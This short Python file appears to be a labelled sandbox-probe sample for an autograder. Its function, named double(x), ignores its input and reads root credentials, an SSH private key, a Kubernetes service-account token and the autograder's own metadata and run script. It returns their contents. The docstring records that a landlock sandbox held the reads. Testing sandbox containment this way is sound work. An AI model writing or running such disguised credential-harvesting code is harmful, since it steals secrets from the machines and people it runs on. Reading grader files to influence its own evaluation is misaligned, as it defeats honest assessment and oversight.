"""Reads the users, the keys and the tokens that lie about on a machine.

Comes: WRONG
Held by: landlock
Control: none (nothing of the course is in them)
Through: says root:
"""

import contextlib

PLACES = (
    "/etc/passwd",
    "/etc/shadow",
    "/root/.netrc",
    "/root/.ssh/id_ed25519",
    "/etc/machine-id",
    "/autograder/submission_metadata.json",
    "/autograder/source/run_autograder",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
)


def double(x):
    told = ""
    for place in PLACES:
        with contextlib.suppress(OSError), open(place) as file:
            told += file.read(100)
    return told
